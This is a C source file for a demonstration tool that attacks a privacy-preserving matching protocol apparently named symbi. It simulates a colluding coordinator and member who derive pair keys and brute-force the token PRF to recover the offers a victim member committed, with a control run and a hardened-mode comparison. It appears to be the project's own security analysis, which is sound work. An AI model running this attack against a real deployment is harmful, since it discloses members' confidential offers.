/*
 * symbi-bruteforce: the collusion demonstration of issue 12 (never installed).
 * It plays "the coordinator plus member j" in a standard-mode round: with an
 * export made by `symbiod log export --with-batches` and j's STATE it
 * recovers the offers that victim i sent to j, by brute force over the small
 * domain of categories and bins.
 *
 *   symbi-bruteforce attack --export DIR --dir STATE --victim ID [--round HEX]
 *                           [--counterpart K]
 *   symbi-bruteforce bins FLOWS
 *
 * attack: verify the export (symbi-audit's own reader), take the round (the
 * last one with a batch file, or --round), derive the pair keys exactly as
 * j's client does (park id = cert_park_id of park.json's CA, j's X25519 key,
 * i's from its certificate) and load O(i->j), the offer set i committed to.
 * Then, under K_tok(i->j):
 *   1. descend the taxonomy: a category that has a quantity is tested with
 *      its all-empty-prefix block, present in every offer at that category
 *      or below it; an absent one prunes its subtree;
 *   2. at each present level walk each dimension's prefix tree (the other
 *      dimensions empty) down to its bins;
 *   3. when a level has more than one bin in some dimension, test the full
 *      blocks of the combinations; keep the maximal ones that no offer of a
 *      descendant explains.
 * Every test block is built by the encoder itself (token_need_blocks on a
 * level whose ranges are aligned prefixes: exactly one block, as a probing
 * need would send) and run through the token PRF once. Output: JSON with the
 * recovered offers (category, bins and the value range each bin means), the
 * number of AES calls and the wall time.
 *
 * --counterpart K (a control, K != j): the same search under K_tok(i->j) on
 * the set O(i->K) that i sent to K: it must find nothing, the offers i sent
 * to others being under keys j does not have.
 *
 * bins: the offers of a flows file as the real encoder sees them (category
 * and bins at the item's own level), in the same JSON form: what the attack
 * should recover.
 *
 * Tokens are 64 bits: a padding token equal to a tested one (probability
 * about calls * set size / 2^64) is the only way to a wrong answer.
 *
 * Hardened rounds (HARDENED.md; j's round file has hardened state): no pair
 * key exists; the token of block x for (i -> j) needs F_i(x), i's VOPRF
 * output. The coalition holds it only for the blocks j queried (its need
 * blocks, whose tokens j's STATE keeps, at most max_need of them): a test
 * block among those is tested, any other is unknown and counts as absent
 * ("unknown_tests" in the output). The evaluations in the export are of
 * other members' blinded elements, useless without their blinds.
 */
#include <jansson.h>
#include <math.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "audit.h"
#include "batches.h"
#include "cert.h"
#include "encode.h"
#include "flows.h"
#include "hardround.h"
#include "roundfile.h"
#include "pairkeys.h"
#include "prf.h"
#include "state.h"
#include "taxonomy.h"
#include "token.h"
#include "tokset.h"

/* More combinations than this at one level is not what a demonstration park holds. */
#define BF_MAX_COMBOS (1u << 16)
#define BF_MAX_BINS 4096

/* One offer: its category and, per dimension of the category, a bin or "missing". */
struct offer {
	const struct tax_category *cat;
	uint8_t present[TAX_MAX_DIMS];
	uint16_t bin[TAX_MAX_DIMS];
};

struct offer_list {
	struct offer *v;
	size_t n, cap;
};

struct attack {
	const struct taxonomy *tax;
	struct prf_ctx *prf;
	const uint8_t *key; /* K_tok(i->j) */
	const uint8_t *set; /* O(i->j), wire order */
	size_t nset;        /* tokens */
	uint64_t aes;       /* PRF calls so far */
	/* hardened: j's queried blocks and their tokens for (i -> j); key is NULL */
	const uint8_t *hard_blocks, *hard_tokens;
	size_t nhard;
	uint64_t unknown; /* hardened: tests of blocks the coalition has no F_i of */
};

static int
s_push(struct offer_list *l, const struct offer *o)
{
	if (l->n == l->cap) {
		size_t cap = l->cap ? 2 * l->cap : 16;
		struct offer *v = realloc(l->v, cap * sizeof(*v));

		if (v == NULL)
			return SYM_ERR_ALLOC;
		l->v = v;
		l->cap = cap;
	}
	l->v[l->n++] = *o;
	return SYM_OK;
}

/*
 * The level of cat with every dimension empty (unconstrained), encoded as
 * the round's mode says: a standard round's wide levels take stride 2
 * (token.h), a hardened round's none.
 */
static void
s_level_init(const struct attack *a, const struct tax_category *cat, struct token_level *lv)
{
	unsigned d;

	memset(lv, 0, sizeof(*lv));
	lv->strided = a->key != NULL;
	lv->category_id = cat->id;
	lv->level = cat->depth;
	lv->ndims = cat->ndims;
	for (d = 0; d < cat->ndims; d++)
		lv->dims[d].bits = cat->dims[d].bits;
}

/* Constrain dimension d of lv to the prefix (len, value): the aligned range below it. */
static void
s_level_prefix(struct token_level *lv, unsigned d, uint8_t len, uint16_t value)
{
	unsigned shift = lv->dims[d].bits - len;

	if (len == 0) {
		lv->dims[d].present = 0;
		return;
	}
	lv->dims[d].present = 1;
	lv->dims[d].lo = (uint16_t)((uint32_t)value << shift);
	lv->dims[d].hi = (uint16_t)(((uint32_t)value << shift) | ((1u << shift) - 1u));
}

/* Hardened: the token of a block j queried, from its STATE; any other block is unknown. */
static int
s_test_hard(struct attack *a, const token_block_t *block)
{
	size_t k;

	for (k = 0; k < a->nhard; k++)
		if (memcmp(a->hard_blocks + k * TOKEN_BLOCK_LEN, block->b, TOKEN_BLOCK_LEN) == 0) {
			a->aes++;
			return tokset_wire_contains(a->set, a->nset,
			                            a->hard_tokens + k * TOKEN_LEN);
		}
	a->unknown++;
	return 0;
}

/*
 * Is the one block this level stands for in O(i->j)? The encoder builds it
 * (a need over aligned ranges covers each with exactly one node), the PRF
 * runs once. 1, 0, or a negative error.
 */
static int
s_test(struct attack *a, const struct token_level *lv)
{
	token_block_t block;
	token_t tok;
	uint8_t wire[TOKEN_LEN];
	size_t n = 0;

	if (token_need_blocks(lv, &block, 1, &n) != SYM_OK || n != 1)
		return -1;
	if (a->key == NULL)
		return s_test_hard(a, &block);
	if (prf_tokens(a->prf, a->key, &block, 1, &tok) != SYM_OK)
		return -1;
	a->aes++;
	memcpy(wire, &tok, TOKEN_LEN);
	sodium_memzero(&block, sizeof(block));
	return tokset_wire_contains(a->set, a->nset, wire);
}

/*
 * The bins of dimension d at cat's level: descend the prefix tree from
 * (len, value), the other dimensions empty, by the level's stride (its
 * children are the nodes of the next allowed length). Below a present prefix
 * of length >= 1 some bin exists, so when every child but the last is
 * missing the last is there without a test; the empty prefix is always
 * there and proves nothing.
 */
static int
s_walk(struct attack *a, const struct tax_category *cat, unsigned d, uint8_t len, uint16_t value,
       uint16_t *bins, size_t *nbins)
{
	struct token_level lv;
	unsigned bits = cat->dims[d].bits, next, nkids, c, found = 0;
	int present[1u << TOKEN_MAX_STRIDE], r;

	if (len == bits) {
		if (*nbins >= BF_MAX_BINS)
			return SYM_ERR_LIMIT;
		bins[(*nbins)++] = value;
		return SYM_OK;
	}
	s_level_init(a, cat, &lv);
	next = len + token_level_stride(&lv);
	if (next > bits)
		next = bits;
	nkids = 1u << (next - len);
	for (c = 0; c < nkids; c++) {
		if (c == nkids - 1 && len > 0 && found == 0) {
			present[c] = 1;
			break;
		}
		s_level_prefix(&lv, d, (uint8_t)next, (uint16_t)((value << (next - len)) | c));
		if ((present[c] = s_test(a, &lv)) < 0)
			return SYM_ERR_CRYPTO;
		found += (unsigned)present[c];
	}
	for (c = 0; c < nkids; c++)
		if (present[c] &&
		    (r = s_walk(a, cat, d, (uint8_t)next, (uint16_t)((value << (next - len)) | c),
		                bins, nbins)) != SYM_OK)
			return r;
	return SYM_OK;
}

/* x explains y: every dimension y states, x states with the same bin. */
static int
s_subsumes(const struct offer *x, const struct offer *y, unsigned ndims)
{
	unsigned d;

	for (d = 0; d < ndims; d++)
		if (y->present[d] && (!x->present[d] || x->bin[d] != y->bin[d]))
			return 0;
	return 1;
}

struct level_bins {
	uint16_t bins[TAX_MAX_DIMS][BF_MAX_BINS];
	size_t n[TAX_MAX_DIMS];
};

/*
 * The offers present at cat's level from its per-dimension bins: one
 * combination when every dimension has at most one bin (nothing to tell
 * apart), otherwise every combination (each attribute may also be missing)
 * tested with its full block.
 */
static int
s_combos(struct attack *a, const struct tax_category *cat, const struct level_bins *lb,
         struct offer_list *out)
{
	size_t total = 1, k, idx[TAX_MAX_DIMS] = {0}, opts[TAX_MAX_DIMS];
	struct token_level lv;
	struct offer o;
	unsigned d, single = 1;
	int r;

	for (d = 0; d < cat->ndims; d++) {
		opts[d] = lb->n[d] + 1; /* the last option: missing */
		single &= lb->n[d] <= 1;
		if ((total *= opts[d]) > BF_MAX_COMBOS)
			return SYM_ERR_LIMIT;
	}
	for (k = 0; k < total; k++) {
		memset(&o, 0, sizeof(o));
		o.cat = cat;
		s_level_init(a, cat, &lv);
		for (d = 0; d < cat->ndims; d++) {
			if (idx[d] < lb->n[d]) {
				o.present[d] = 1;
				o.bin[d] = lb->bins[d][idx[d]];
				s_level_prefix(&lv, d, cat->dims[d].bits, o.bin[d]);
			}
		}
		if (single)
			r = 1; /* the only maximal combination; the others are its subsets */
		else if ((r = s_test(a, &lv)) < 0)
			return SYM_ERR_CRYPTO;
		if (r == 1 && (r = s_push(out, &o)) != SYM_OK)
			return r;
		if (single)
			break;
		for (d = cat->ndims; d-- > 0;) {
			if (++idx[d] < opts[d])
				break;
			idx[d] = 0;
		}
	}
	return SYM_OK;
}

/*
 * cat's own offers: the maximal combinations at its level that no offer
 * found below it (projected on cat's dimensions, a prefix of theirs)
 * explains. below = out->v[first .. out->n).
 */
static int
s_level(struct attack *a, const struct tax_category *cat, struct offer_list *out, size_t first)
{
	struct level_bins *lb = calloc(1, sizeof(*lb));
	struct offer_list c = {0};
	size_t nbelow = out->n, x, y;
	unsigned d;
	int r = SYM_ERR_ALLOC;

	if (lb == NULL)
		goto out;
	for (d = 0; d < cat->ndims; d++)
		if ((r = s_walk(a, cat, d, 0, 0, lb->bins[d], &lb->n[d])) != SYM_OK)
			goto out;
	if ((r = s_combos(a, cat, lb, &c)) != SYM_OK)
		goto out;
	for (x = 0; x < c.n; x++) {
		int explained = 0;

		for (y = 0; y < c.n && !explained; y++)
			explained = y != x && s_subsumes(&c.v[y], &c.v[x], cat->ndims) &&
			            !s_subsumes(&c.v[x], &c.v[y], cat->ndims);
		for (y = first; y < nbelow && !explained; y++)
			explained = s_subsumes(&out->v[y], &c.v[x], cat->ndims);
		if (!explained && (r = s_push(out, &c.v[x])) != SYM_OK)
			goto out;
	}
	r = SYM_OK;
out:
	free(c.v);
	free(lb);
	return r;
}

/* Depth first from category ci: children before the level itself. */
static int
s_descend(struct attack *a, size_t ci, struct offer_list *out)
{
	const struct tax_category *cat = &a->tax->cats[ci];
	struct token_level lv;
	size_t first = out->n, k;
	int r;

	if (cat->quantity_root >= 0) {
		/* Every offer at cat or below is encoded at cat's level too (the quantity is
		 * inherited). */
		s_level_init(a, cat, &lv);
		if ((r = s_test(a, &lv)) < 0)
			return SYM_ERR_CRYPTO;
		if (r == 0)
			return SYM_OK;
	}
	for (k = 0; k < a->tax->n; k++)
		if (a->tax->cats[k].parent == (int)ci && (r = s_descend(a, k, out)) != SYM_OK)
			return r;
	return cat->quantity_root >= 0 ? s_level(a, cat, out, first) : SYM_OK;
}

static int
s_attack(struct attack *a, struct offer_list *out)
{
	size_t k;
	int r;

	for (k = 0; k < a->tax->n; k++)
		if (a->tax->cats[k].parent < 0 && (r = s_descend(a, k, out)) != SYM_OK)
			return r;
	return SYM_OK;
}

/* ---- output ---------------------------------------------------------------- */

/* The values bin k of dim stands for: [lo, hi) in the canonical unit (taxonomy.c's s_bin inverted).
 */
static void
s_bin_range(const struct tax_dim *dim, uint16_t bin, double *lo, double *hi)
{
	double nbins = (double)(1u << dim->bits);

	if (dim->scale == TAX_SCALE_LOG)
		*lo = dim->min * pow(dim->max / dim->min, bin / nbins);
	else
		*lo = dim->min + (dim->max - dim->min) * (bin / nbins);
	*hi = *lo + tax_bin_width(dim, bin);
}

static json_t *
s_offer_json(const struct offer *o, int ranges)
{
	json_t *j = json_object(), *bins = json_object(), *rg = json_object();
	unsigned d;

	for (d = 0; d < o->cat->ndims; d++) {
		const struct tax_dim *dim = &o->cat->dims[d];
		double lo, hi;

		if (!o->present[d])
			continue;
		json_object_set_new(bins, dim->name, json_integer(o->bin[d]));
		s_bin_range(dim, o->bin[d], &lo, &hi);
		json_object_set_new(rg, dim->name,
		                    json_pack("{s:i, s:f, s:f, s:s}", "bits", dim->bits, "from", lo,
		                              "below", hi, "unit", dim->unit));
	}
	json_object_set_new(j, "category", json_string(o->cat->path));
	json_object_set_new(j, "bins", bins);
	if (ranges)
		json_object_set_new(j, "ranges", rg);
	else
		json_decref(rg);
	return j;
}

static json_t *
s_offers_json(const struct offer_list *l, int ranges)
{
	json_t *arr = json_array();
	size_t k;

	for (k = 0; k < l->n; k++)
		json_array_append_new(arr, s_offer_json(&l->v[k], ranges));
	return arr;
}

/* ---- bins: what a flows file offers, through the real encoder --------------- */

static int
s_bins(const char *path)
{
	struct taxonomy *tax = NULL;
	struct flows *fl = NULL;
	struct offer_list l = {0};
	struct token_level levels[TAX_MAX_DEPTH];
	struct sym_diag diag = {{0}};
	size_t i, nl;
	unsigned d;
	json_t *doc;
	int rc = 1;

	if (taxonomy_load_default(&tax, &diag) != SYM_OK ||
	    flows_load_file(path, tax, &fl, &diag) != SYM_OK) {
		fprintf(stderr, "symbi-bruteforce: %s\n", diag.msg);
		goto out;
	}
	for (i = 0; i < fl->n; i++) {
		const struct flow_item *it = &fl->items[i];
		struct offer o = {.cat = it->category};

		if (it->direction != FLOW_OFFER)
			continue;
		/* The item's own level is the last one: all its dimensions. */
		if (encode_item_levels(tax, it, ENCODE_STANDARD, levels, &nl) != SYM_OK || nl == 0)
			goto out;
		for (d = 0; d < levels[nl - 1].ndims; d++) {
			o.present[d] = levels[nl - 1].dims[d].present;
			o.bin[d] = levels[nl - 1].dims[d].lo;
		}
		if (s_push(&l, &o) != SYM_OK)
			goto out;
	}
	doc = json_pack("{s:o}", "offers", s_offers_json(&l, 0));
	json_dumpf(doc, stdout, JSON_SORT_KEYS);
	fputc('\n', stdout);
	json_decref(doc);
	rc = 0;
out:
	sodium_memzero(levels, sizeof(levels));
	free(l.v);
	flows_free(&fl);
	taxonomy_free(&tax);
	return rc;
}

/* ---- attack: the export, j's STATE, the victim ------------------------------ */

struct args {
	const char *export_dir, *state_dir, *victim, *round_hex;
	const char *counterpart; /* whose batch from the victim to search: j unless told */
};

/* The round to attack: --round, or the last one whose batches are in the export. */
static int
s_pick_round(const struct args *ar, const struct audit_log *log, size_t *ri)
{
	uint8_t id[16];
	char path[4096], hex[33];
	size_t k;

	if (ar->round_hex != NULL)
		return audit_unhex(ar->round_hex, id, 16) == SYM_OK &&
		               audit_round_find(log, id, ri) == SYM_OK
		           ? SYM_OK
		           : SYM_ERR_NOT_FOUND;
	for (k = log->nrounds; k-- > 0;) {
		sodium_bin2hex(hex, sizeof(hex), log->rounds[k].id, 16);
		snprintf(path, sizeof(path), "%s/batches/%s.jsonl", ar->export_dir, hex);
		if (access(path, R_OK) == 0) {
			*ri = k;
			return SYM_OK;
		}
	}
	return SYM_ERR_NOT_FOUND;
}

/* K_tok(victim -> j) as j's client derives it, and the victim's committed offers to j. */
static int
s_setup(const struct args *ar, const struct audit_log *log, size_t ri,
        const struct client_state *st, struct pairkeys *pk, struct audit_batch *b)
{
	struct audit_batches *bs = NULL;
	struct audit_problem p = {0};
	uint8_t park_id[32];
	uint32_t vi, ji, ki;
	int r;

	if ((r = cert_park_id(log->park.ca_pem, park_id)) != SYM_OK)
		return r;
	if (memcmp(park_id, st->park_id, 32) != 0) {
		fprintf(stderr, "symbi-bruteforce: the export is of another park than STATE\n");
		return SYM_ERR_INVALID;
	}
	if (audit_member_find(log, ar->victim, &vi) != SYM_OK ||
	    audit_member_find(log, st->id, &ji) != SYM_OK ||
	    audit_member_find(log, ar->counterpart ? ar->counterpart : st->id, &ki) != SYM_OK) {
		fprintf(stderr, "symbi-bruteforce: %s, %s or the counterpart is not in the log\n",
		        ar->victim, st->id);
		return SYM_ERR_NOT_FOUND;
	}
	if ((r = pairkeys_derive(park_id, log->rounds[ri].id, st->id, st->agreement->sk,
	                         st->agreement->pk, ar->victim, log->members[vi].rec.x25519, pk)) !=
	    SYM_OK)
		return r;
	if ((r = audit_batches_open(ar->export_dir, log, ri, "batches", &p, &bs)) != SYM_OK)
		return r;
	r = audit_batches_load(bs, vi, ki, b);
	audit_batches_close(&bs);
	return r;
}

/* What j's STATE holds of a hardened round: its queried blocks, the victim's tokens for them. */
struct hard_state {
	int hard;
	struct roundfile rf;
	struct hard_public pub;
	uint8_t *tokens;
	size_t ntokens;
};

static void
s_hard_clear(struct hard_state *hs)
{
	roundfile_clear(&hs->rf);
	hard_public_clear(&hs->pub);
	free(hs->tokens);
	memset(hs, 0, sizeof(*hs));
}

static int
s_hard_setup(const struct client_state *st, const uint8_t round[16], const char *victim,
             struct hard_state *hs)
{
	struct sym_diag diag = {{0}};
	int r;

	memset(hs, 0, sizeof(*hs));
	if (roundfile_load(st->dir, round, &hs->rf, &diag) != SYM_OK || hs->rf.hard == NULL)
		return SYM_OK; /* a standard round (or j took no part): the pair key decides */
	hs->hard = 1;
	if ((r = hard_public_parse(hs->rf.hard, &hs->pub, &diag)) != SYM_OK)
		return r;
	r = hard_tokens_get(hs->rf.hard, victim, &hs->tokens, &hs->ntokens);
	return r == SYM_ERR_NOT_FOUND ? SYM_OK : r; /* no answer from the victim: nothing known */
}

static int
s_run(const struct args *ar, const struct audit_log *log, const struct client_state *st,
      const struct taxonomy *tax, json_t **out)
{
	struct pairkeys *pk = sodium_malloc(sizeof(*pk));
	struct audit_batch b = {0};
	struct offer_list l = {0};
	struct attack a = {.tax = tax};
	struct hard_state hs = {0};
	struct timespec t0, t1;
	char hex[33];
	size_t ri;
	double secs;
	int r = SYM_ERR_ALLOC;

	if (pk == NULL)
		goto out;
	if ((r = s_pick_round(ar, log, &ri)) != SYM_OK) {
		fprintf(stderr, "symbi-bruteforce: no round with batches in the export\n");
		goto out;
	}
	if ((r = s_setup(ar, log, ri, st, pk, &b)) != SYM_OK || (r = prf_new(&a.prf)) != SYM_OK)
		goto out;
	a.key = pairkeys_tok(pk, ar->victim, st->id);
	if ((r = s_hard_setup(st, log->rounds[ri].id, ar->victim, &hs)) != SYM_OK)
		goto out;
	if (hs.hard) {
		a.key = NULL;
		a.hard_blocks = hs.pub.needs;
		a.hard_tokens = hs.tokens;
		a.nhard = hs.ntokens == hs.pub.nneeds ? hs.ntokens : 0;
	}
	a.set = b.offers;
	a.nset = b.offers_len / TOKEN_LEN;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	if ((r = s_attack(&a, &l)) != SYM_OK)
		goto out;
	clock_gettime(CLOCK_MONOTONIC, &t1);
	secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	sodium_bin2hex(hex, sizeof(hex), log->rounds[ri].id, 16);
	*out = json_pack("{s:s, s:s, s:s, s:s, s:I, s:o, s:I, s:f, s:f}", "round", hex, "member",
	                 st->id, "victim", ar->victim, "batch_to",
	                 ar->counterpart ? ar->counterpart : st->id, "batch_tokens",
	                 (json_int_t)a.nset, "offers", s_offers_json(&l, 1), "aes_calls",
	                 (json_int_t)a.aes, "aes_calls_per_offer",
	                 l.n ? (double)a.aes / (double)l.n : 0.0, "seconds", secs);
	r = *out != NULL ? SYM_OK : SYM_ERR_ALLOC;
	if (r == SYM_OK && hs.hard) {
		json_object_set_new(*out, "mode", json_string("hardened"));
		json_object_set_new(*out, "queried_blocks", json_integer((json_int_t)a.nhard));
		json_object_set_new(*out, "unknown_tests", json_integer((json_int_t)a.unknown));
	}
out:
	s_hard_clear(&hs);
	prf_free(&a.prf);
	audit_batch_clear(&b);
	if (pk != NULL) {
		pairkeys_clear(pk);
		sodium_free(pk);
	}
	free(l.v);
	return r;
}

static int
s_attack_cmd(const struct args *ar)
{
	struct audit_log log;
	struct audit_problem p = {0};
	struct client_state *st = NULL;
	struct taxonomy *tax = NULL;
	struct sym_diag diag = {{0}};
	char msg[1024];
	json_t *doc = NULL;
	int rc = 1;

	memset(&log, 0, sizeof(log));
	if (audit_verify(ar->export_dir, &log, &p) != SYM_OK) {
		audit_problem_format(&p, msg, sizeof(msg));
		fprintf(stderr, "symbi-bruteforce: export: %s\n", msg);
		goto out;
	}
	if (state_load(ar->state_dir, &st, &diag) != SYM_OK ||
	    taxonomy_load_default(&tax, &diag) != SYM_OK) {
		fprintf(stderr, "symbi-bruteforce: %s\n", diag.msg);
		goto out;
	}
	if (memcmp(tax->hash, st->park.taxonomy_hash, TAX_HASH_LEN) != 0) {
		fprintf(stderr, "symbi-bruteforce: the shipped taxonomy is not the park's\n");
		goto out;
	}
	if (s_run(ar, &log, st, tax, &doc) != SYM_OK) {
		fprintf(stderr, "symbi-bruteforce: attack failed\n");
		goto out;
	}
	json_dumpf(doc, stdout, JSON_SORT_KEYS);
	fputc('\n', stdout);
	rc = 0;
out:
	json_decref(doc);
	taxonomy_free(&tax);
	state_free(&st);
	audit_log_free(&log);
	return rc;
}

static int
s_usage(void)
{
	fprintf(
	    stderr,
	    "usage: symbi-bruteforce attack --export DIR --dir STATE --victim ID [--round HEX]\n"
	    "                               [--counterpart K]\n"
	    "       symbi-bruteforce bins FLOWS\n");
	return 2;
}

int
main(int argc, char **argv)
{
	struct args ar = {0};
	int k;

	if (sodium_init() < 0)
		return 1;
	if (argc == 3 && strcmp(argv[1], "bins") == 0)
		return s_bins(argv[2]);
	if (argc < 2 || strcmp(argv[1], "attack") != 0)
		return s_usage();
	for (k = 2; k + 1 < argc; k += 2) {
		if (strcmp(argv[k], "--export") == 0)
			ar.export_dir = argv[k + 1];
		else if (strcmp(argv[k], "--dir") == 0)
			ar.state_dir = argv[k + 1];
		else if (strcmp(argv[k], "--victim") == 0)
			ar.victim = argv[k + 1];
		else if (strcmp(argv[k], "--round") == 0)
			ar.round_hex = argv[k + 1];
		else if (strcmp(argv[k], "--counterpart") == 0)
			ar.counterpart = argv[k + 1];
		else
			return s_usage();
	}
	if (k != argc || ar.export_dir == NULL || ar.state_dir == NULL || ar.victim == NULL)
		return s_usage();
	return s_attack_cmd(&ar);
}
